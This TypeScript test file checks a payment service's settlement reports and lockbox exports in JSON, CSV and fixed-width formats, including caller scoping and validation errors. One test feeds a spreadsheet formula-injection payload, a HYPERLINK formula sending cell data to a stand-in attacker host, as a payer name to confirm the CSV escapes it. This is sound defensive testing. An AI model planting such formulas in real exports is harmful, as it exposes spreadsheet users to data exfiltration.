/**
 * Settlement reports and lockbox files through the API: JSON and CSV, the CSV safe in a spreadsheet,
 * the fixed-width layout, scoping by caller and impersonation, and every bad query a 400.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { BatchResponse, SettlementReportResponse, TransactionResponse } from '../../../shared/wire.js';
import type { AccountCredentials } from '../../accounts/seed.js';
import { LOCKBOX_RECORD_WIDTH } from '../../reports/lockbox.js';
import { basic, cardToken, request, startTestService, type Created, type TestService } from '../../testing/harness.js';

let service: TestService;
const NOW = new Date('2026-11-27T15:00:00.000Z');
beforeAll(async () => {
  service = await startTestService({ now: () => NOW });
});
afterAll(() => service.close());
beforeEach(() => service.reset());

const springfield = () => service.accounts.springfield;
const call = (
  url: string,
  {
    method = 'GET',
    body,
    account = springfield(),
    headers = {},
  }: {
    method?: 'GET' | 'POST';
    body?: unknown;
    account?: AccountCredentials;
    headers?: Record<string, string>;
  } = {},
) => request(service.app, method, url, { authorization: basic(account), body, headers });

async function pay(payer: string, amount: number, extra: object = {}, account = springfield(), headers = {}) {
  const token = await call('/api/v1/tokens', { method: 'POST', body: cardToken(), account, headers });
  const response = await call('/api/v1/transactions', {
    method: 'POST',
    body: { payer, amount, tokenId: token.json<Created>().id, ...extra },
    account,
    headers,
  });
  expect(response.statusCode).toBe(201);
  return response.json<TransactionResponse>();
}
const settle = async (account = springfield(), headers = {}) =>
  (await call('/api/v1/sandbox/settle', { method: 'POST', account, headers })).json<BatchResponse>();

describe('GET /api/v1/batches/{id}/report', () => {
  it('answers JSON whose totals equal the batch’s, a line per transaction with its fees', async () => {
    const sale = await pay('Ada Lovelace', 100); // Mode C: 103.25 charged, 3.25 payer fee
    await pay('Grace Hopper', 50, { payerFee: 1 });
    await settle();
    await call(`/api/v1/transactions/${sale.id}/refund`, { method: 'POST', body: { amount: 40 } });
    const first = (await call('/api/v1/batches')).json<{ batches: BatchResponse[] }>().batches[0]!;
    const response = await call(`/api/v1/batches/${first.id}/report`);
    expect(response.statusCode).toBe(200);
    const report = response.json<SettlementReportResponse>();
    expect(report.batch).toEqual(first);
    expect(report.lines[0]).toMatchObject({
      transactionId: sale.id,
      kind: 'Payment',
      payer: 'Ada Lovelace',
      lastFour: '4242',
      principal: 100,
      payerFee: 3.25,
      serviceFee: 3.25,
      initiatingPartyFee: 0,
      net: 100,
      amount: 103.25,
    });
    expect(report.totals).toMatchObject({
      numberOfDebits: 2,
      totalOfDebits: first.totalOfDebits,
      numberOfCredits: 0,
      totalOfCredits: 0,
      principal: 149,
      payerFee: 4.25,
    });
    const refundBatch = await settle();
    const refunds = (await call(`/api/v1/batches/${refundBatch.id}/report`)).json<SettlementReportResponse>();
    expect(refunds.lines).toMatchObject([
      { kind: 'Refund', principal: -40, net: -40, amount: -40, originalTransactionId: sale.id },
    ]);
    expect(refunds.totals).toMatchObject({ numberOfCredits: 1, totalOfCredits: 40, amount: -40 });
  });

  it('answers CSV for Accept: text/csv or ?format=csv, quoted per RFC 4180 and safe in a spreadsheet', async () => {
    await pay('=HYPERLINK("http://evil.example/?x="&A1,"Click")', 20, { payerFee: 1 });
    await pay('Smith, "Jo"\u00e9', 30, { payerFee: 1 });
    await pay('-2+3', 40, { payerFee: 1 });
    const batch = await settle();
    for (const response of [
      await call(`/api/v1/batches/${batch.id}/report`, { headers: { accept: 'text/csv' } }),
      await call(`/api/v1/batches/${batch.id}/report?format=csv`),
    ]) {
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toBe(`attachment; filename="settlement-batch-${batch.id}.csv"`);
      const rows = response.body.split('\r\n');
      expect(rows[0]).toBe(
        'transactionId,publicId,kind,date,payer,method,lastFour,originalTransactionId,principal,payerFee,serviceFee,initiatingPartyFee,net,amount',
      );
      expect(rows).toHaveLength(6); // header, 3 lines, Total, and the empty text after the last CRLF
      expect(rows[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",Visa,4242,,19.00,1.00,`);
      expect(rows[2]).toContain(',"Smith, ""Jo""é",');
      expect(rows[3]).toContain(",'-2+3,");
      expect(rows[4]).toBe(',,Total,,,,,,87.00,3.00,' + rows[4]!.split(',').slice(10).join(','));
      expect(rows[5]).toBe('');
    }
    expect(
      (await call(`/api/v1/batches/${batch.id}/report?format=json`, { headers: { accept: 'text/csv' } })).json(),
    ).toMatchObject({
      batch: { id: batch.id },
    });
  });

  it('does not find another account’s batch, nor one made under another impersonation', async () => {
    await pay('Ada', 10, { payerFee: 1 });
    const batch = await settle();
    const shelby = await call(`/api/v1/batches/${batch.id}/report`, { account: service.accounts.shelby });
    expect(shelby.statusCode).toBe(404);
    expect(shelby.json()).toMatchObject({ code: 'BATCH_NOT_FOUND' });
    const acting = await call(`/api/v1/batches/${batch.id}/report`, {
      account: service.accounts.system,
      headers: { impersonationAccountKey: springfield().impersonationKey! },
    });
    expect(acting.statusCode).toBe(404);
    expect((await call('/api/v1/batches/999999999/report')).statusCode).toBe(404);
    expect((await call('/api/v1/batches/017/report')).statusCode).toBe(404);
  });

  it.each([
    ['?format=xml', 'format', 'INVALID_REPORT_FORMAT'],
    ['?format=csv&page=2', 'page', 'UNKNOWN_REPORT_PARAMETER'],
  ])('refuses %s with a 400 naming the parameter', async (query, field, code) => {
    await pay('Ada', 10, { payerFee: 1 });
    const batch = await settle();
    const response = await call(`/api/v1/batches/${batch.id}/report${query}`);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ errors: [{ field, code }] });
  });
});

describe('GET /api/v1/reports/lockbox', () => {
  it('lists the day’s approved payments as CSV, without declines, voids or refunds', async () => {
    const kept = await pay('Ada Lovelace', 25, { payerFee: 1, attributeValues: { reference: 'INV-42' } });
    const other = await pay('Grace Hopper', 30, { payerFee: 1 });
    const voided = await pay('Voided Payer', 35, { payerFee: 1 });
    await call(`/api/v1/transactions/${voided.id}/void`, { method: 'POST' });
    await pay('Shelby Payer', 45, { payerFee: 1 }, service.accounts.shelby);
    const response = await call('/api/v1/reports/lockbox?date=2026-11-27');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    const rows = response.body.split('\r\n');
    expect(rows[0]).toBe('reference,amount,date,payer,transactionId,publicId,method,lastFour,batchId');
    expect(rows.slice(1, -1)).toEqual([
      `INV-42,25.00,${kept.created},Ada Lovelace,${kept.id},${kept.publicId},Visa,4242,`,
      `${other.publicId},30.00,${other.created},Grace Hopper,${other.id},${other.publicId},Visa,4242,`,
    ]);
    const yesterday = await call('/api/v1/reports/lockbox?date=2026-11-26');
    expect(yesterday.body).toBe('reference,amount,date,payer,transactionId,publicId,method,lastFour,batchId\r\n');
  });

  it('writes the fixed-width layout: header, a record per payment, trailer, 120 characters each', async () => {
    const paid = await pay('José Ñúñez, a name longer than forty characters in all', 25.5, { payerFee: 1 });
    const response = await call('/api/v1/reports/lockbox?date=2026-11-27&format=fixed');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/plain; charset=us-ascii');
    const records = response.body.split('\r\n');
    expect(records.pop()).toBe('');
    expect(records.map((record) => record.length)).toEqual([
      LOCKBOX_RECORD_WIDTH,
      LOCKBOX_RECORD_WIDTH,
      LOCKBOX_RECORD_WIDTH,
    ]);
    expect(records[0]!.trimEnd()).toBe('H20261127000001000000002550');
    expect(records[1]!.slice(0, 51)).toBe(`D${paid.publicId.padEnd(30)}00000000255020261127`);
    expect(records[1]!.slice(51, 60)).toBe(String(paid.id).padStart(9, '0'));
    expect(records[1]!.slice(60, 100)).toBe('Jose Nunez, a name longer than forty cha');
    expect(records[1]!.slice(100, 120)).toBe('Visa            4242');
    expect(records[2]!.trimEnd()).toBe('T000001000000002550');
    expect(response.body).toMatch(/^[\x20-\x7e\r\n]*$/);
  });

  it('keeps to the caller’s scope: an impersonation sees only what was made under it', async () => {
    const headers = { impersonationAccountKey: springfield().impersonationKey! };
    await pay('Acted For', 12, { payerFee: 1 }, service.accounts.system, headers);
    await pay('Own Payment', 13, { payerFee: 1 });
    const acting = await call('/api/v1/reports/lockbox?date=2026-11-27', { account: service.accounts.system, headers });
    expect(acting.body).toContain('Acted For');
    expect(acting.body).not.toContain('Own Payment');
    const own = await call('/api/v1/reports/lockbox?date=2026-11-27');
    expect(own.body).not.toContain('Acted For');
  });

  it.each([
    ['', 'date', 'INVALID_REPORT_DATE'],
    ['?date=2026-02-30', 'date', 'INVALID_REPORT_DATE'],
    ['?date=27/11/2026', 'date', 'INVALID_REPORT_DATE'],
    ['?date=2026-11-27&format=xlsx', 'format', 'INVALID_LOCKBOX_FORMAT'],
    ['?date=2026-11-27&batchId=1', 'batchId', 'UNKNOWN_REPORT_PARAMETER'],
  ])('refuses %j with a 400 naming the parameter', async (query, field, code) => {
    const response = await call(`/api/v1/reports/lockbox${query}`);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ errors: [{ field, code }] });
  });

  it('is for key and secret only', async () => {
    const response = await request(service.app, 'GET', '/api/v1/reports/lockbox?date=2026-11-27', {
      authorization: `Api-Key ${springfield().publicKey}`,
    });
    expect(response.statusCode).toBe(403);
  });
});
